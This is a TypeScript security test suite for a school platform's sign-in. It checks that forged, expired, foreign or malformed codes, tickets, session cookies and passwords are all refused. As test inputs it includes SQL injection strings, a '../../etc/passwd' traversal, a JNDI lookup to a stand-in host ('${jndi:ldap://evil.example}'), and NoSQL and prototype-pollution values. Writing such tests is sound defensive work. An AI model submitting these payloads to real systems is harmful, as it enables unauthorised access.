/** Codes, tickets, cookies and passwords that are wrong, over, somebody else's or another school's (issue 2, section 9; security checks 20, 21): no door opens. */
import assert from 'node:assert/strict'
import { randomBytes, randomUUID } from 'node:crypto'
import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { newId } from '#platform/id/id.ts'
import { hashCode, newCode, readCode } from '#platform/identity/sign-in/codes.ts'
import { DEVICE_COOKIE, rememberAccount } from '#platform/identity/sign-in/device-cookie.ts'
import { endOpenSlips, makeSlips } from '#platform/identity/sign-in/slips.ts'
import { openKeys } from '#platform/school/keys.ts'
import type { Keys } from '#platform/school/keys.ts'
import { PASSWORD } from '#example/people.ts'
import type { PersonKey } from '#example/people.ts'
import { assertRefused, openHostileHouse } from './hostile.ts'
import type { Answer, HostileHouse } from './hostile.ts'

const MINUTE = 60_000

describe('bad codes, tickets, cookies and passwords', () => {
  let hostile: HostileHouse
  let own: Keys
  /** The keys of another school. */
  let foreign: Keys
  let folder: string

  before(async () => {
    hostile = await openHostileHouse()
    folder = await mkdtemp(join(tmpdir(), 'schulhof-foreign-'))
    foreign = await openKeys(folder)
    own = hostile.house.platform.keys
  })
  after(async () => {
    await hostile.close()
    await rm(folder, { recursive: true, force: true })
  })

  const at = () => hostile.house.clock.now()
  const post = (path: string, body: unknown, cookie = '') => hostile.tell('POST', path, cookie, body)
  const useSlip = (code: unknown) => post('/api/slip-uses', { code })
  const choose = (ticket: string, password: unknown = 'Kiesel Laterne Ofen 93') => hostile.tell('PUT', '/api/password', '', { ticket, password, device: 'own' })
  const signIn = (account: unknown, password: unknown, cookie = '') => post('/api/session', { account, password, device: 'own' }, cookie)
  const slipFor = async (key: PersonKey) => hostile.house.write(async (w) => (await makeSlips(w, [hostile.world.ids[key]], { validUntil: new Date(w.at.getTime() + 86_400_000), madeBy: null }))[0]!.code)
  const slipIdOf = async (code: string) => (await hostile.house.platform.database.selectFrom('access_slip').select('id').where('code_hash', '=', hashCode(own, readCode(code)!)).executeTakeFirstOrThrow()).id
  const ownCookie = (answer: Answer) => String(answer.headers['set-cookie'] ?? '').split(';')[0]!

  test('a code that is expired, used, replaced, withdrawn, of another school or of nobody: one answer, byte for byte', async () => {
    const replaced = await slipFor('third')
    const withdrawn = await slipFor('third')
    await hostile.house.write((w) => endOpenSlips(w, [hostile.world.ids.third], 'withdrawn'))
    const expired = await slipFor('fifteen')
    await hostile.house.db.owner.updateTable('access_slip').set({ valid_until: new Date(at().getTime() - 1) }).where('id', '=', await slipIdOf(expired)).execute()
    const departed = await slipFor('departed89')
    const used = await slipFor('adult')
    const ticket = (await useSlip(used)).body['ticket'] as string
    assert.equal((await choose(ticket)).status, 200)
    const elsewhere = newCode()
    await hostile.house.write((w) => w.trx.insertInto('access_slip').values({ id: newId(w.at), person_id: hostile.world.ids.third, code_hash: hashCode(foreign, readCode(elsewhere)!), made_by: null, made_at: w.at, valid_until: new Date(w.at.getTime() + 86_400_000) }).execute())
    const typed = [replaced, withdrawn, expired, departed, used, used.toLowerCase(), elsewhere, newCode(), 'AAAA-AAAA-AAAA', 'x', '\0', `${elsewhere}\0`, '\ud800', "' OR 1=1 --", '𝟘𝟘𝟘𝟘-𝟘𝟘𝟘𝟘-𝟘𝟘𝟘𝟘', '-'.repeat(40), '👩‍👩‍👧‍👦']
    for (const code of typed) {
      const answer = await useSlip(code)
      assertRefused(answer, 403, 'slip_void', code)
      assert.equal(answer.text, '{"refusal":{"status":403,"code":"slip_void","field":"code"}}')
    }
    for (const code of ['', 'x'.repeat(41), 'x'.repeat(100_000), null, 7, [], {}, ['AAAA-AAAA-AAAA']]) assertRefused(await useSlip(code), 400, 'input_invalid', JSON.stringify(code)?.slice(0, 30))
    await hostile.isUnharmed()
  })

  test('a ticket that is forged, old, from the future, of another school or for something else chooses no password and opens no door', async () => {
    const code = await slipFor('third')
    const slipId = await slipIdOf(code)
    const { third, withoutConsent } = hostile.world.ids
    const now = at().getTime()
    const byPassword = (await signIn(hostile.world.accountName('withoutConsent'), PASSWORD)).body['ticket'] as string
    const good = own.sign('ticket', `${third}.${slipId}.${now}`)
    const changed = good.replace(third, hostile.world.ids.head)
    const tickets = [
      byPassword, changed, good.slice(0, -1), `${good}A`, good.toUpperCase(), foreign.sign('ticket', `${third}.${slipId}.${now}`), own.sign('ticket', `${third}.${slipId}.${now - 16 * MINUTE}`), own.sign('ticket', `${third}.${slipId}.${now + 10 * MINUTE}`),
      own.sign('ticket', `${third}.${randomUUID()}.${now}`), own.sign('ticket', `${withoutConsent}.${slipId}.${now}`), own.sign('device', `${third}.${slipId}.${now}`), own.sign('ticket', `${third}.${slipId}.1e99`), own.sign('ticket', `${third}.${slipId}.-1`),
      own.sign('ticket', '..'), own.sign('ticket', ''), '', '.', '..', 'x', '\0', '\ud800', '__proto__', "' OR 1=1 --",
    ]
    for (const ticket of tickets) assertRefused(await choose(ticket), 403, 'slip_void', ticket.slice(0, 60))
    assertRefused(await choose('x'.repeat(401)), 400, 'input_invalid')
    // The door for tickets is no door for any of these either; the right one sees its own consents, and nothing beside.
    const knock = (ticket: string, path = '/api/own-consents') => hostile.ask({ path, headers: { authorization: `Ticket ${ticket}` } })
    for (const ticket of tickets.slice(1).filter((one) => /^[\x21-\x7e]+$/.test(one))) assertRefused(await knock(ticket), 404, 'not_found', ticket.slice(0, 60))
    assert.equal((await knock(byPassword)).status, 200)
    for (const path of ['/api/messenger/rooms', '/api/profile', '/api/people', '/api/sessions', '/api/today', '/api/tasks']) assertRefused(await knock(byPassword, path), 404, 'not_found', path)
    assert.equal((await choose(good)).status, 200, 'the one that is right is right')
    assertRefused(await choose(good), 403, 'slip_void', 'a second time')
    await hostile.isUnharmed()
  })

  test('ten who show the same ticket at the same moment: one of them chooses the password', async () => {
    const ticket = (await useSlip(await slipFor('fifteen'))).body['ticket'] as string
    const passwords = Array.from({ length: 10 }, (_, n) => `Kiesel Laterne Ofen ${n} Wolkenrand`)
    const answers = await Promise.all(passwords.map((password) => choose(ticket, password)))
    assert.equal(answers.filter(({ status }) => status === 200).length, 1)
    for (const answer of answers) if (answer.status !== 200) assertRefused(answer, 403, 'slip_void')
    const winner = passwords[answers.findIndex(({ status }) => status === 200)]!
    assert.equal((await signIn(hostile.world.accountName('fifteen'), winner)).status, 200)
    await hostile.isUnharmed()
  })

  test("a session of another school's key, an ended one, half of one, two of them: nobody is there", async () => {
    const token = randomBytes(32).toString('base64url')
    const later = new Date(at().getTime() + 3_600_000)
    await hostile.house.write((w) => w.trx.insertInto('session').values({ id: newId(w.at), person_id: hostile.world.ids.head, token_hash: foreign.hmac('session', token), device: 'own', device_label: 'x', started_at: w.at, expires_at: later, idle_until: later }).execute())
    const good = await hostile.cookieOf('third')
    const ended = await hostile.cookieOf('third')
    assert.equal((await hostile.tell('DELETE', '/api/session', ended, {})).status, 200)
    const stored = await hostile.house.platform.database.selectFrom('session').select('token_hash').limit(1).executeTakeFirstOrThrow()
    const cookies = [`schulhof_session=${token}`, ended, good.slice(0, -1), `${good}A`, good.toLowerCase(), `schulhof_session=${stored.token_hash.toString('base64url')}`, `schulhof_session=${stored.token_hash.toString('hex')}`, `Schulhof_Session=${good.split('=')[1]}`]
    for (const cookie of cookies) {
      assertRefused(await hostile.ask({ path: '/api/profile', cookie }), 404, 'not_found', cookie.slice(0, 40))
      assert.equal((await hostile.ask({ path: '/api/session', cookie })).body['signedIn'], false)
      assertRefused(await post(`/api/messenger/rooms/${hostile.roomId}/messages`, { clientId: randomUUID(), body: 'x' }, cookie), 404, 'not_found')
    }
    assert.equal((await hostile.ask({ path: '/api/profile', cookie: good })).status, 200)
    await hostile.isUnharmed()
  })

  test("the mark of a known browser counts only with this school's key, and opens nothing by itself", async () => {
    const accountName = hostile.world.accountName('friend')
    const account = { accountName, voidedId: null }
    // The bucket of all strangers is used up.
    for (let n = 0; n < 10; n++) assertRefused(await signIn(accountName, `falsch ${n}`), 403, 'sign_in_failed')
    assertRefused(await signIn(accountName, PASSWORD), 429, 'too_many_tries')
    const mine = rememberAccount(own, undefined, account)
    for (const cookie of [rememberAccount(foreign, undefined, account), mine.slice(0, -1), rememberAccount(own, undefined, { accountName: hostile.world.accountName('third'), voidedId: null }), '.', '~~~', mine.repeat(20)]) {
      assertRefused(await signIn(accountName, PASSWORD, `${DEVICE_COOKIE}=${cookie}`), 429, 'too_many_tries', cookie.slice(0, 30))
    }
    assertRefused(await hostile.ask({ path: '/api/profile', cookie: `${DEVICE_COOKIE}=${mine}` }), 404, 'not_found')
    assert.equal((await signIn(accountName, PASSWORD, `${DEVICE_COOKIE}=${mine}`)).status, 200)
    await hostile.isUnharmed()
  })

  test('names and passwords of any signs: refused like any wrong one, or kept as they are', async () => {
    const accounts = ['\0', 'a\0b', '\ud800', '../../etc/passwd', "admin' --", '*', '%', '\u202enimda', 'ADMIN', ' '.repeat(50), '__proto__', 'x'.repeat(200), '${jndi:ldap://evil.example}']
    for (const account of accounts) assertRefused(await signIn(account, 'falsch'), 403, 'sign_in_failed', JSON.stringify(account).slice(0, 30))
    for (const account of ['', 'x'.repeat(201), null, 7, {}, [], ['a'], { $ne: '' }]) assertRefused(await signIn(account, 'falsch'), 400, 'input_invalid', JSON.stringify(account)?.slice(0, 30))
    for (const password of ['', 'x'.repeat(1_025), '\ud800', null, 7, {}, [PASSWORD], { length: 20 }]) assertRefused(await signIn(hostile.world.accountName('third'), password), 400, 'input_invalid', JSON.stringify(password)?.slice(0, 30))
    const ticket = (await useSlip(await slipFor('adult'))).body['ticket'] as string
    const refused: [string, number][] = [['\0'.repeat(20), 422], ['x'.repeat(129), 422], ['kurz', 422], ['\u0301'.repeat(1_024), 422], ['\udc00aaaaaaaaaaaaaaaaaaaa', 400], [' '.repeat(30), 422]]
    for (const [password, status] of refused) assertRefused(await choose(ticket, password), status, undefined, JSON.stringify(password).slice(0, 30))
    const odd = '\u202eטיול ב\u0000ים 🏖️ Größe\u0301 \t;--'
    const chosen = await choose(ticket, odd)
    assert.equal(chosen.status, 200, chosen.text)
    assert.equal((await signIn(hostile.world.accountName('adult'), odd.normalize('NFD'), ownCookie(chosen))).status, 200)
    assertRefused(await signIn(hostile.world.accountName('adult'), odd.replace('\0', '')), 403, 'sign_in_failed')
    await hostile.isUnharmed()
  })
})
